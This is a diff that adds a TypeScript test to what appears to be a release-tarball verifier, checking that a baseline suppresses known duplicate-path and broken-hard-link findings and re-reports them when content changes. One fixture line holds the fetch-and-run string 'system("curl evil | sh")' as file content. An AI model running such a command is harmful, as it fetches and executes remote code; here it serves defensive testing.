@@ -51,6 +51,29 @@ test('a baseline from the previous run hides what it had; the same path with new
   assertValidReport(changed);
 });
 
+test('the baseline knows a hard link by its target and a duplicated path by every copy', async () => {
+  const repo = await makeRepo({ files: { README: 'hi\n' }, tags: ['v1.0'] });
+  const tar = (name: string, target: string, firstCopy: string) =>
+    writeTemp(
+      `${name}/proj-1.0.tar`,
+      buildTar([
+        { path: 'proj-1.0/', type: 'directory' },
+        { path: 'proj-1.0/README', content: firstCopy },
+        { path: 'proj-1.0/README', content: 'hi\n' },
+        { path: 'proj-1.0/tests/link', type: 'hardlink', target },
+      ]),
+    );
+  const first = await verify({ release: await tar('links-1', 'proj-1.0/missing', 'old\n'), repo: repo.dir, cacheDir });
+  const counted = (r: typeof first) => r.findings.filter((f) => !f.known && !f.allowed && f.severity !== 'info' && f.severity !== 'low').map((f) => `${f.path} ${f.category}`);
+  assert.equal(counted(first), ['README duplicate-path', 'tests/link broken-link']);
+  const baseline = join(work, 'links.json');
+  writeFileSync(baseline, JSON.stringify(first));
+  const same = await verify({ release: await tar('links-2', 'proj-1.0/missing', 'old\n'), repo: repo.dir, cacheDir, baseline });
+  assert.equal(counted(same), []);
+  const moved = await verify({ release: await tar('links-3', 'proj-1.0/nowhere', 'system("curl evil | sh")\n'), repo: repo.dir, cacheDir, baseline });
+  assert.equal(counted(moved).map((c) => c.split(' ')[0]), ['README', 'tests/link']);
+});
+
 test('a bad policy or baseline fails before the release is read', async () => {
   const missing = join(work, 'no-such-release.tar');
   await rejects(verify({ release: missing, repo: work, cacheDir, baseline: join(work, 'nothing.json') }), 'usage', /^baseline .*nothing\.json: cannot read it/);
